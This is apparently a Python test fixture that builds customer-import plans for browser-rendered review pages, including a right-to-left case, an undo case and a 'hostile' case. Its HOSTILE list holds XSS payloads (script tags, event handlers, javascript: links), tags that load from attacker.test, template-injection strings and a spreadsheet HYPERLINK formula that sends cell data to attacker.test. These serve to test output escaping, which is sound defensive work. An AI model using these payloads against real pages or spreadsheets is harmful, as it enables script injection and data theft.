"""Plans whose pages are looked at in a browser: the smallest, the demo's, hostile ones, and one with everything."""

from __future__ import annotations

import functools
import importlib.util
import sys
from collections.abc import Callable
from pathlib import Path
from types import ModuleType

import customer_import as ci
from tests.sample import PROFILE, TODAY

DEMO = Path(__file__).parents[2] / "docs" / "examples" / "demo"

# Markup, handlers, addresses, style, terminal and template languages, direction marks, and what breaks parsers.
HOSTILE = (
    "<script>window.hit=1;alert(1)</script>",
    '"><img src=x onerror="window.hit=1">',
    "'><svg/onload=window.hit=1>",
    "</style></title></textarea><script>window.hit=1</script>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    '<a href="javascript:window.hit=1" autofocus onfocus=window.hit=1>x</a>',
    "<details open ontoggle=window.hit=1>",
    "<meta http-equiv=refresh content='0;url=https://attacker.test/'>",
    "<link rel=stylesheet href=https://attacker.test/a.css>",
    "<base href=https://attacker.test/>",
    "<form action=https://attacker.test/><button autofocus>x</button></form>",
    "<style>@import 'https://attacker.test/b.css';*{background:url(https://attacker.test/c)}</style>",
    "<img src=//attacker.test/pixel>",
    "<!--><script>window.hit=1</script>-->",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hit=1&#62;",
    "${window.hit=1} {{constructor.constructor('window.hit=1')()}} <%= 1 %> #{1}",
    "</td></tr></table></main><script>window.hit=1</script>",
    "<math><mtext></p><style><img src onerror=window.hit=1></style></mtext></math>",
    "<x onclick=window.hit=1 tabindex=1 id=x style=animation-name:rotation onanimationstart=window.hit=1>",
    "\u202egnp.exe\u2066 \u200b\ufeff",
    "a\x1b]0;title\x07\x1b[31m",
    "\ufffe\U000e0001 Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0300l\u0321g\u0327o",
    "=HYPERLINK(\"https://attacker.test/?\"&A1,\"x\")",
    "W" * 400,
    "{count} {field} {rows} %s %(a)s",
    "\\'); window.hit=1; //",
)  # fmt: skip

HEBREW = "שלום עולם"
ARABIC = "محمد الأمين (الرياض)"


def _loaded() -> ModuleType:
    """Load the demo's cases, which are no package."""
    spec = importlib.util.spec_from_file_location("demo_cases_for_pages", DEMO / "cases.py")
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


def demo(file: str) -> ci.Plan:
    """Plan a file of the demo."""
    case = next(case for case in _loaded().CASES if case.file == file)
    profile = ci.load_profile(case.profile, **case.changes)
    store = ci.MemoryStore(profile)
    for values, children in case.stored:
        store.add(values, children=children)
    with ci.read(DEMO / "files" / file, profile=profile) as table:
        return ci.plan(table, profile, store, today=TODAY, plan_id="page", **case.options)


EVERYTHING = ci.Profile(
    "club",
    title="Club of friends",
    region="SE",
    fields=[
        ci.Field("email", kind="email", labels=["E-mail"], policy="immutable", reason="It is their log-in."),
        ci.Field("card", labels=["Card"], policy="immutable", unique=True),
        ci.Field("name", kind="name", labels=["Name"], policy="fill_if_empty", reason="They change it themselves."),
        ci.Field("city", labels=["City"], blank="clear"),
        ci.Field("level", kind="choice", labels=["Level"], choices={"blue": [], "silver": [], "gold": []},
                 policy="ratchet", order=["blue", "silver", "gold"], reason="Nobody loses a level."),
        ci.Field("tags", kind="list", labels=["Tags"], policy="union", separators=["|"]),
        ci.Field("balance", kind="decimal", labels=["Balance"], policy="never", reason="The ledger knows better."),
        ci.Field("birthday", kind="date", labels=["Birthday"], on_bad_cell="drop_cell"),
        ci.Field("phone", kind="phone", labels=["Phone"], unknown="ignore_cell"),
        ci.Field("price_list", labels=["Price list"], requires="wholesale"),
        ci.Field("points", kind="decimal", labels=["Points"]),
        ci.Field("note", labels=["Note"]),
    ],
    keys=["email"],
    duplicates="first",
    clear_tokens=["(delete)"],
    credit=ci.CreditRule("email", "points", default_unit="points"),
    guards=ci.Guards(clears=0, minimum_rows=2, changed_share=0.5),
)  # fmt: skip

EVERYTHING_FILE = """\
E-mail;Card;Name;City;Level;Tags;Balance;Birthday;Phone;Price list;Points;Note;Shoe size
anna@example.org;C-9;Anna Ek;Göteborg;blue;vip|new;12.50;;;A;5;;38
bo@example.org;C-2;Bo Berg;(delete);gold;;;26/06/1980;070 123 45 67;;;;
new@example.org;C-3;Nils Ny;Umeå;silver;a|b;;;;;7;First visit;44
same@example.org;;;;;;;;;;;;
twice@example.org;;Tova;;;;;;;;;;
not an address;;Rut Rask;Lund;;;;;;;;;
twice@example.org;;Tova;;;;;;;;;;
date@example.org;;Disa;;;;;31/02/1990;;;;;
third@example.org;C-1;Tore;;;;;;;;;;
wrong@example.org;;Vera;;platinum;;;;;;;;
tel@example.org;;Tea;;;;;;070;;;;
posted@example.org;;;;;;;;;;3;;
empty@example.org;;;;;;;;;;0;;
"""


def everything() -> ci.Plan:
    """Plan a file of which every part of a page has something to show."""
    store = ci.MemoryStore(EVERYTHING)
    anna = {"card": "C-1", "name": "Annika Ek", "city": "Bergen", "level": "silver", "balance": "3"}
    store.add({"email": "anna@example.org", "tags": ("vip",), **anna})
    store.add({"email": "bo@example.org", "name": "Bo Berg", "city": "Oslo", "level": "silver", "card": "C-2"})
    store.add({"email": "same@example.org"})
    first = b"E-mail;Points\nposted@example.org;3\n"
    with ci.read(first, profile=EVERYTHING) as table:
        ci.apply(ci.plan(table, EVERYTHING, store, today=TODAY, occasion="opening balances", plan_id="first"), store)
    with ci.read(EVERYTHING_FILE.encode(), profile=EVERYTHING) as table:
        return ci.plan(
            table, EVERYTHING, store, today=TODAY, occasion="opening balances", plan_id="page", actor="maria",
            overrides=[ci.Override("note", "fill_if_empty", "maria", "notes are theirs this time")],
        )  # fmt: skip


def _sample(rows: list[list[str]], labels: list[str] | None = None, **stored: str) -> ci.Plan:
    """Plan rows of e-mail, name, city, points and more for the sample profile, as one customer is stored."""
    lines = [labels or ["E-mail", "Name", "City", "Points", "Shoe size"], *rows]
    text = "\n".join(",".join('"' + cell.replace('"', '""') + '"' for cell in line) for line in lines)
    store = ci.MemoryStore(PROFILE)
    if stored:
        store.add(stored)
    with ci.read(text.encode("utf-8", "replace"), profile=PROFILE) as table:
        return ci.plan(table, PROFILE, store, today=TODAY, occasion="opening balances", plan_id="page")


def hostile() -> ci.Plan:
    """Plan a file whose labels, values and bad cells, and a store whose values, are hostile."""
    rows = [["ann@example.org", HOSTILE[0], HOSTILE[1], "5", HOSTILE[2]]]
    rows += [[f"c{i}@example.org", text, text, "", text] for i, text in enumerate(HOSTILE)]
    rows += [[text, text, text, text, text] for text in HOSTILE]
    labels = ["E-mail", "Name", "City", "Points", HOSTILE[1]]
    return _sample(rows, labels, email="ann@example.org", name=HOSTILE[3], city=HOSTILE[4])


def right_to_left() -> ci.Plan:
    """Plan a file of Hebrew and Arabic names."""
    rows = [["ann@example.org", ARABIC, HEBREW, "", ""], ["new@example.org", HEBREW, ARABIC, "5", ""]]
    return _sample([*rows, [f"({HEBREW})", ARABIC, "1 (2) 3", "", ""]], email="ann@example.org", name=HEBREW)


def many() -> ci.Plan:
    """Plan a file whose rows need several folded pages, if a page holds few."""
    return _sample([[f"c{i}@example.org", "N", "Oslo", "", ""] for i in range(12)])


def empty() -> ci.Plan:
    """Plan a file without rows."""
    return _sample([])


def undoing() -> ci.Plan:
    """Plan to take an import back."""
    store = ci.MemoryStore(PROFILE)
    with ci.read(b"E-mail;Name;City\nann@example.org;Ann;Oslo\n", profile=PROFILE) as table:
        made = ci.plan(table, PROFILE, store, today=TODAY, plan_id="page")
    return ci.undo(made, ci.apply(made, store), store, plan_id="back")


PLANS: dict[str, Callable[[], ci.Plan]] = {
    "empty": empty,
    "everything": everything,
    "hostile": hostile,
    "right_to_left": right_to_left,
    "many": many,
    "undoing": undoing,
    "shoptet": functools.partial(demo, "shoptet.csv"),
    "tixly": functools.partial(demo, "tixly.csv"),
    "raleon": functools.partial(demo, "raleon.csv"),
    "incust": functools.partial(demo, "incust.xlsx"),
    "epos": functools.partial(demo, "epos-invalid.csv"),
}
